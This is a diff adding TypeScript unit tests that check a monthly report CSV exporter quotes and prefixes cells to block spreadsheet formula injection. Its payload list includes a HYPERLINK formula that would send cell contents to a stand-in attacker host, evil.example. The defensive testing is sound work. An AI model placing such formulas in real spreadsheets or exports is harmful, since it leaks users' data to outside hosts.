@@ -91,3 +91,68 @@ describe('monthly report CSV', () => {
     expect(kilometresDe(0)).toBe('0,0');
   });
 });
+
+describe('monthly report CSV against formula injection', () => {
+  const payloads = ['=HYPERLINK("https://evil.example?d="&A1;"x")', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
+  const reportWith = (text: string): MonthlyReport => ({
+    month: '2026-11',
+    directMinutes: 90,
+    travelMinutes: 0,
+    kilometres: 1.5,
+    noteCount: 1,
+    workers: [
+      {
+        workerId: 'w',
+        workerName: text,
+        directMinutes: 90,
+        travelMinutes: 0,
+        kilometres: 1.5,
+        noteCount: 1,
+        rows: [row(text, text, text, [90, 0, 1.5, 1])],
+      },
+    ],
+  });
+  /** The fields of one CSV line, unquoted the way Excel reads them. */
+  const cellsOf = (line: string): string[] => {
+    const cells: string[] = [];
+    let rest = line;
+    while (rest.length > 0 || cells.length === 0) {
+      if (rest.startsWith('"')) {
+        const match = /^"((?:[^"]|"")*)"(;|$)/s.exec(rest);
+        if (!match) throw new Error(`badly quoted: ${rest}`);
+        cells.push((match[1] ?? '').replaceAll('""', '"'));
+        rest = rest.slice(match[0].length);
+        if (match[2] === '') break;
+      } else {
+        const end = rest.indexOf(';');
+        cells.push(end < 0 ? rest : rest.slice(0, end));
+        if (end < 0) break;
+        rest = rest.slice(end + 1);
+      }
+    }
+    return cells;
+  };
+
+  it.each(payloads)('writes %j as quoted text with a leading single quote in every text cell', (payload) => {
+    const csv = monthlyReportCsv(reportWith(payload));
+    const dataLine = csv.slice(1).split('\r\n')[1] ?? '';
+    expect(dataLine.startsWith('2026-11;"\'')).toBe(true);
+    const cells = cellsOf(dataLine);
+    expect(cells).toEqual([
+      '2026-11',
+      `'${payload}`,
+      `'${payload}`,
+      `'${payload}`,
+      '1,50',
+      '0,00',
+      '1,5',
+      '1',
+    ]);
+  });
+
+  it('leaves its own figures as numbers with a decimal comma, unquoted', () => {
+    const lines = monthlyReportCsv(reportWith('=1+1')).slice(1).split('\r\n');
+    expect(lines[1]?.endsWith(';1,50;0,00;1,5;1')).toBe(true);
+    expect(lines[2]).toBe('2026-11;Gesamt;;;1,50;0,00;1,5;1');
+  });
+});
